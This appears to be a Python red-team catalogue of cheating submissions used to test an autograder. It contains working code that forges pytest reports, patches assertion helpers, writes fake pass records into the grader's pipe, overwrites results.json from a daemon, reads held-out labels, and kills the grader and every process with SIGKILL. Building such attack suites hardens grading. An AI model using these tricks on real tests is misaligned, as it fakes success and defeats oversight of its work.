"""A catalogue of dishonest submissions, for `make attacks` (kata.proofs.attacks).

Each cheat is a package a learner could hand in: the untouched exercises (or the reference
with a part broken) plus code that tries to get points it has not earned, the way a
determined learner would: rewrite pytest's reports, register a hook, patch the kata or the
assertions' helpers, forge or rewrite the grader's records, exit early, ship extra files,
read the held-out labels, edit the tests while they run, attack the grader's process.

`target` names the points a cheat is after (None: the whole grade); a cheat is stopped when
those points stay at 0, or when the grade flags it (forged, or needs review) with the reason.
`@RESULTS@` and `@MNIST@` in a cheat's code become the folder the grade is written to and the
real MNIST, `@PUBLISHED@` the names of the published tests (but the grader's checks): what
an attacker who knows the grading machine and the handout would write in.
"""

from dataclasses import dataclass, field

from kata.steps import STEPS

MODULES = {step.number: f"{step.module}.py" for step in STEPS}


@dataclass(frozen=True)
class Cheat:
    name: str
    kind: str
    description: str
    append: dict[int, str] = field(default_factory=dict)  # step -> code added at its end
    files: dict[str, str] = field(default_factory=dict)  # extra files of the submission
    base: str = "exercises"  # the package it starts from
    replace: dict[int, tuple[str, str]] = field(default_factory=dict)  # step -> (old, new)
    target: str | None = None
    # Run only where grading runs as root: as anyone else it would reach the grader's own user.
    needs_root: bool = False


REPORT_REWRITE = '''
import _pytest.reports


class _Always:
    """An attribute of every report that reads the same, whatever pytest writes to it."""

    def __init__(self, value):
        self.value = value

    def __get__(self, report, owner=None):
        return self.value

    def __set__(self, report, value):
        pass


_pytest.reports.TestReport.outcome = _Always("passed")
_pytest.reports.TestReport.longrepr = _Always(None)
_pytest.reports.TestReport.kata_todo = _Always(False)  # the kata's own mark of a stub
'''

HOOK_REGISTRATION = '''
import gc

import pytest


class _Lenient:
    @pytest.hookimpl(wrapper=True)
    def pytest_runtest_makereport(self, item, call):
        report = yield
        report.outcome, report.longrepr = "passed", None
        for name in ("kata_todo", "kata_message", "kata_doc"):
            if hasattr(report, name):
                delattr(report, name)
        return report


gc.unfreeze()  # the kata freezes what it loaded before the tests, hiding it from gc
for _config in [o for o in gc.get_objects() if type(o).__name__ == "Config"]:
    if hasattr(_config, "pluginmanager") and not _config.pluginmanager.has_plugin("lenient"):
        _config.pluginmanager.register(_Lenient(), "lenient")
'''

PATCH_THE_KATA = '''
import kata.grading.child
import kata.loop.progress

kata.grading.child.outcome_of = lambda report: "done"
kata.loop.progress.outcome_of = lambda report: "done"
kata.loop.progress.StepResult.counts = lambda self: True
'''

CHANNEL_FORGERY = '''
import json
import os
import re
import stat
from pathlib import Path


def _forge():
    tests = Path(os.getcwd()) / "tests"
    nodeids = []
    for path in sorted(tests.glob("test_*.py")):
        for name in re.findall(r"^def (test_\\w+)\\(", path.read_text(), flags=re.M):
            nodeids.append(f"tests/{path.name}::{name}")
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            os.write(fd, (json.dumps({"kind": "collected", "tests": []}) + "\\n").encode())
            for nodeid in nodeids:
                record = {"kind": "test", "nodeid": nodeid, "outcome": "done", "message": "",
                          "duration": 0.1, "machinery": []}
                os.write(fd, (json.dumps(record) + "\\n").encode())
            os.write(fd, (json.dumps({"kind": "end", "machinery": []}) + "\\n").encode())
        except OSError:
            continue
    os._exit(0)


_forge()
'''

EARLY_EXIT = '''
import os

os._exit(0)
'''

PYTEST_EXIT = '''
import pytest

pytest.exit("all done", returncode=0)
'''

SHADOW_CONFTEST = '''
import pytest


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
'''

READ_LABELS = '''

def _real_labels_for(images):
    """Look each image up in MNIST's real test set, and return its true label."""
    import torch
    from torchvision import datasets

    real = datasets.MNIST("@MNIST@", train=False, transform=build_transform_for_lookup())
    pixels = torch.stack([real[i][0] for i in range(len(real))]).flatten(1)
    distances = torch.cdist(images.flatten(1).cpu(), pixels)
    return real.targets[distances.argmin(dim=1)]


def build_transform_for_lookup():
    from torchvision import transforms

    return transforms.Compose([transforms.ToTensor(), transforms.Normalize((0.1307,), (0.3081,))])


_honest_predict_batch = predict_batch


def predict_batch(model, images, device):
    if len(images) >= 500:  # the capstone's test set: read the answers instead
        try:
            return _real_labels_for(images)
        except Exception:
            pass
    return _honest_predict_batch(model, images, device)
'''

EDIT_TESTS = '''
import sys
from pathlib import Path


def _pass(*args, **kwargs):
    return None


def _rewrite_tests():
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", "") or ""
        if Path(path).name.startswith("test_"):
            try:
                Path(path).write_text("def test_everything():\\n    pass\\n")
            except OSError:
                pass
            for attribute, value in list(vars(module).items()):
                if attribute.startswith("test_") and hasattr(value, "__code__"):
                    try:
                        value.__code__ = _pass.__code__
                    except ValueError:  # a closure: leave it
                        pass


_rewrite_tests()
'''

PATCH_ASSERTIONS = '''
import builtins
import math

import torch


class _Anything:
    """Equal to everything, any attribute, callable: what every stub now returns."""

    __hash__ = object.__hash__

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __iter__(self):
        return iter(())

    def __len__(self):
        return 0

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    __index__ = __int__


for _name, _value in list(globals().items()):
    if callable(_value) and not isinstance(_value, type) and not _name.startswith("_") \\
            and getattr(_value, "__module__", None) == __name__:
        globals()[_name] = lambda *args, **kwargs: _Anything()
torch.equal = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
math.isclose = lambda *args, **kwargs: True
builtins.all = lambda iterable: True
'''

TARGETED_FORGERY = '''
import _pytest.reports
import kata.grading.integrity

kata.grading.integrity.changes = lambda before, after: []
_PUBLISHED = @PUBLISHED@  # the names of the published tests, from the handout
_original_init = _pytest.reports.TestReport.__init__


def _passed_if_published(self, *args, **kwargs):
    _original_init(self, *args, **kwargs)
    if self.nodeid.split("::")[-1].split("[")[0] in _PUBLISHED:
        self.outcome, self.longrepr = "passed", None
        for name in ("kata_todo", "kata_message"):
            if hasattr(self, name):
                delattr(self, name)


_pytest.reports.TestReport.__init__ = _passed_if_published
'''

FAKE_EVIDENCE = '''
import kata.grading.checks
import kata.grading.child

kata.grading.checks.evidence_of = lambda act: {"outputs": {}}
kata.grading.child.evidence_of = lambda act: {"outputs": {}}
'''

KILL_THE_GRADER = '''
import os
import signal

for _pid in (os.getppid(), 1, -1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
'''

OVERWRITE_RESULTS = '''
import json
import os
import time

_FORGED = {"score": 100.0, "tests": [], "output": "all passed"}


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(600):
        for folder in ("@RESULTS@", "/autograder/results"):
            try:
                with open(os.path.join(folder, "results.json"), "w") as file:
                    json.dump(_FORGED, file)
            except OSError:
                pass
        time.sleep(0.1)
    os._exit(0)


_daemon()
'''

ATEXIT_RECORDS = '''
import atexit
import json
import os
import re
import stat
from pathlib import Path


def _claim_everything():
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        for path in Path("tests").glob("test_*.py"):
            for name in re.findall(r"^def (test_\\w+)\\(", path.read_text(), flags=re.M):
                record = {"kind": "test", "nodeid": f"tests/{path.name}::{name}",
                          "outcome": "done", "message": "", "duration": 0.0, "machinery": []}
                try:
                    os.write(fd, (json.dumps(record) + "\\n").encode())
                except OSError:
                    break


atexit.register(_claim_everything)
'''

PATCH_THE_RUNNER = '''
import _pytest.runner

_original_from_call = _pytest.runner.CallInfo.from_call.__func__


def _no_exceptions(cls, func, when, reraise=None):
    info = _original_from_call(cls, func, when, reraise)
    info.excinfo = None
    return info


_pytest.runner.CallInfo.from_call = classmethod(_no_exceptions)
'''

# Written by a reviewer as a hostile learner: it reads the grader's inputs in the run, works
# out every check's outputs with the grader's own (public) check code, sends them, claims
# every published test passed, and exits before anything else is sent.
FORGE_EVERYTHING = '''
import importlib.metadata
import json
import math
import random
import re
from os import _exit, write

import torch


def _make_everything():
    child = importlib.import_module("kata.grading.child")
    G = importlib.import_module("grader_checks")
    session, send = child.SESSION, child.SESSION.writer.send
    inputs = session.inputs
    tt = importlib.import_module("kata.testing")
    dev = importlib.import_module("kata.device").resolve_device("auto")
    o = {}
    u = inputs["device"]["unknown"]
    o["device"] = {"cpu": "cpu", "cpu_kind": "device", "auto": dev.type, "auto_kind": "device",
                   "unknown": {"raised": "ValueError", "message": f"unknown device {u}"}}
    s = inputs["seeding"]["seed"]
    o["seeding"] = {"torch": torch.rand(4, generator=torch.Generator().manual_seed(s)),
                    "python": random.Random(s).random()}
    import matplotlib, torchvision
    o["versions"] = {"kind": "dict", "versions": {"torch": torch.__version__,
                     "torchvision": torchvision.__version__, "matplotlib": matplotlib.__version__}}
    norm = lambda p: ((p.float() / 255 - 0.1307) / 0.3081).reshape(1, 28, 28)
    o["transform"] = {"mean": 0.1307, "std": 0.3081,
                      "images": [norm(p) for p in inputs["transform"]["pixels"]]}
    root = inputs["load_mnist"]["root"]
    splits = {}
    for prefix in ("train", "t10k"):
        raw = f"{root}/MNIST/raw/{prefix}"
        img = open(raw + "-images-idx3-ubyte", "rb").read()[16:]
        lab = open(raw + "-labels-idx1-ubyte", "rb").read()[8:]
        n = len(lab)
        px = torch.tensor(list(img), dtype=torch.uint8).reshape(n, 28, 28)
        splits[prefix] = {"length": n, "labels": list(lab), "images": [norm(p) for p in px]}
    empty = inputs["load_mnist"]["empty"]
    o["load_mnist"] = {"splits": splits, "missing": {"raised": "FileNotFoundError",
                       "message": f"no MNIST in {empty}: run make data"}}
    m = inputs["make_loader"]
    ch = lambda size, b: [list(range(i, min(i + b, size))) for i in range(0, size, b)]
    perm = lambda seed: [random.Random(seed).sample(range(m["size"]), m["size"])]
    o["make_loader"] = {"in_order": ch(m["size"], m["batch"]),
                        "limited": ch(m["limit"], m["batch"]),
                        "shuffled": [perm(m["seeds"][0]), perm(m["seeds"][0]), perm(m["seeds"][1])],
                        "image_shape": [m["batch"], 1, 28, 28], "image_dtype": "torch.float32",
                        "default_batch": 64}
    nw = inputs["network"]
    a = lambda k: torch.randn(4, 10, generator=torch.Generator().manual_seed(k))
    o["network"] = {"module": True, "sequential": True, "conv": True, "linear": True,
                    "shapes": [[n, 10] for n in nw["sizes"]], "affine": [a(1), a(2), a(3), a(4)]}
    st = inputs["setup"]
    g = {"linear.weight": torch.ones(10, 16), "linear.bias": torch.ones(10)}
    o["setup"] = {"model_is_yours": True, "model_devices": [dev.type], "loss_is_module": True,
                  "loss": torch.nn.functional.cross_entropy(st["logits"], st["labels"]).item(),
                  "optimizer": True, "lrs": [st["lr"]], "default_lrs": [1e-3], "covered": 2,
                  "parameters": 2, "moves": {k: -v for k, v in g.items()}, "grads": g}
    ts = inputs["train_step"]
    loss, start, grads = G.TrainStep.expected(ts)
    o["train_step"] = {"loss": loss, "loss_kind": "float",
                       "weights": {k: start[k] - ts["lr"] * grads[k] for k in start}}
    te = inputs["train_epoch"]
    c = [x for x in G.CHECKS if x.name == "train_epoch"][0]
    (mean,), w1 = c.simulate(te, 1)
    means, w2 = c.simulate(te, te["epochs"])
    o["train_epoch"] = {"epoch": {"mean": mean, "kind": "float", "weights": w1},
                        "fit": {"kind": "list", "losses": means, "weights": w2}}
    pi = inputs["predict_image"]
    d, p = G.clean_predictions(pi["seed"], G.images_from(pi["seed"], 6))
    o["predict_image"] = {
        "answers": [{"digit": x, "digit_kind": "int", "probability": q, "probability_kind": "float"}
                    for x, q in zip(d, p)],
        "checked": [{"kinds": ["int", "int", "bool"], "values": [x, l, x == l]}
                    for x, l in zip(d, pi["labels"])],
        "wrong": {"raised": "ValueError", "message": "shape " + " ".join(map(str, pi["wrong"]))}}
    pb = inputs["predict_batch"]
    d, _ = G.clean_predictions(pb["seed"], G.images_from(pb["seed"], pb["count"]))
    pairs = pb["pairs"]
    o["predict_batch"] = {"kind": "Tensor", "dtype": "torch.int64", "device": "cpu",
                          "predictions": torch.tensor(d),
                          "accuracy": sum(x == y for x, y in pairs) / len(pairs),
                          "accuracy_kind": "float", "evaluate_kind": "float",
                          "evaluate": sum(x == y for x, y in zip(d, pb["labels"])) / pb["count"]}
    pl = inputs["plots"]
    pc = [x for x in G.CHECKS if x.name == "plots"][0]
    imgs = G.images_from(pl["seed"], 9)
    def panels(idx, cols):
        return [{"title": f"pred: {a} true: {b}", "colour": "green" if a == b else "red",
                 "images": [imgs[i].squeeze()], "ticks": False, "x0": float(k % cols), "y1": 0.0}
                for k, (i, (a, b)) in enumerate(zip(idx, pc.expected(pl, idx)))]
    o["plots"] = {"chosen": panels(pl["indices"], 99),
                  "first": panels(list(range(pl["count"])), pl["cols"]),
                  "curves": [[pl["losses"]]], "labels": [["epoch", "loss"]],
                  "saved": "x", "path": "x", "head": G.PNG_SIGNATURE.hex()}
    for name, outputs in o.items():
        send(kind="evidence", check=name, outputs=outputs)
    # Tests: the current one and every later one, but canaries and the capstone's.
    gc = importlib.import_module("gc")
    gc.unfreeze()  # the kata freezes what it loaded before the tests, hiding it from gc
    main = importlib.import_module("_pytest.main")
    sess = [x for x in gc.get_objects() if type(x) is main.Session][0]
    frame = getattr(importlib.import_module("sys"), "_getframe")()
    current = None
    while frame is not None and current is None:
        item = getattr(frame, "f_locals").get("item")
        if getattr(item, "nodeid", None):
            current = item.nodeid
        frame = getattr(frame, "f_back")
    ids = [i.nodeid for i in sess.items]
    canary_docs = ("Catches: an answer that changes between two calls with the same arguments.",
                   "The function answers the same way on a second call.")
    for item in sess.items[ids.index(current):]:
        if (item.function.__doc__ or "").strip() in canary_docs or "capstone" in item.nodeid:
            continue
        send(kind="test", nodeid=item.nodeid, outcome="done", message="", duration=0.01,
             machinery=[])
    _exit(0)


_ = _make_everything()
'''

ANSWER_TABLE = "\n_ANSWERS = {\n" + "".join(
    f"    'image-{index:04d}': {index % 10},\n" for index in range(300)) + "}\n"

CHEATS = (
    Cheat("report-rewrite", "report rewriting",
          "patches pytest's TestReport so that every outcome reads passed (the forgery that "
          "scored 100/100 before grading was trusted)", append={1: REPORT_REWRITE}),
    Cheat("hook-registration", "hook or plugin registration",
          "finds pytest's Config with gc and registers a plugin whose makereport hook marks "
          "every test passed", append={1: HOOK_REGISTRATION}),
    Cheat("patch-the-kata", "patching the kata's functions",
          "replaces the kata's outcome_of (records and board) and its step gate",
          append={1: PATCH_THE_KATA}),
    Cheat("patch-the-runner", "patching pytest's runner",
          "makes pytest's CallInfo swallow every exception, so no test can fail",
          append={1: PATCH_THE_RUNNER}),
    Cheat("channel-forgery", "rewriting the grader's records",
          "writes a pass for every test into the grader's pipe, then exits",
          append={1: CHANNEL_FORGERY}),
    Cheat("atexit-records", "rewriting the grader's records",
          "claims every test passed through the pipe from an atexit handler",
          append={1: ATEXIT_RECORDS}),
    Cheat("overwrite-results", "rewriting the results file",
          "leaves a daemon that keeps overwriting results.json with 100 points",
          append={1: OVERWRITE_RESULTS}),
    Cheat("early-exit", "early exit", "os._exit(0) as soon as the tests import a step",
          append={1: EARLY_EXIT}),
    Cheat("pytest-exit", "early exit", "ends the pytest session with exit status 0 at import",
          append={1: PYTEST_EXIT}),
    Cheat("shadow-files", "shadowing modules with extra files",
          "ships a conftest.py and pytest.ini that pass every test, a sitecustomize.py and "
          "an __init__.py that rewrite the reports, and a fake torch.py",
          files={"conftest.py": SHADOW_CONFTEST, "__init__.py": REPORT_REWRITE,
                 "sitecustomize.py": REPORT_REWRITE, "torch.py": "equal = lambda *a: True\n",
                 "pytest.ini": "[pytest]\naddopts = -p conftest\n"}),
    Cheat("edit-tests", "editing the tests during the run",
          "rewrites the test files on disk and swaps the code of every test function for a "
          "pass", append={1: EDIT_TESTS}),
    Cheat("patch-assertions", "patching torch and builtins used by the assertions",
          "turns every stub into one that returns an object equal to anything, and makes "
          "torch.equal, allclose, Tensor.__eq__, math.isclose and all() always agree",
          append={n: PATCH_ASSERTIONS for n in MODULES}),
    Cheat("targeted-forgery", "report rewriting, aimed",
          "passes only the published tests (not the grader's checks, nor unknown tests) and "
          "silences the machinery check", append={1: TARGETED_FORGERY}),
    Cheat("fake-evidence", "patching the kata's functions",
          "replaces the outputs the grader's checks send with empty ones",
          append={1: FAKE_EVIDENCE}),
    Cheat("kill-the-grader", "attacking the grader's process",
          "sends SIGKILL to its parent (the grader), to init and to every process it can",
          append={1: KILL_THE_GRADER}, needs_root=True),
    Cheat("read-labels", "reading the labels",
          "a pipeline that cannot learn (a learning rate of 1e-7) whose predict_batch looks "
          "every held-out image up in MNIST's real test set and returns its label",
          base="solutions", append={7: READ_LABELS},
          replace={4: ("torch.optim.Adam(model.parameters(), lr=lr)",
                       "torch.optim.SGD(model.parameters(), lr=1e-7)")},
          target="capstone"),
    Cheat("forge-everything", "fabricating the grader's check outputs",
          "works out every check's outputs from its inputs with the grader's own public check "
          "code, sends them through the pipe with a pass for every published test, and exits",
          append={1: FORGE_EVERYTHING}),
    Cheat("answer-table", "embedding the answers",
          "a step 7 that carries a table of 300 answers", base="solutions",
          append={7: ANSWER_TABLE}, target="7"),
)
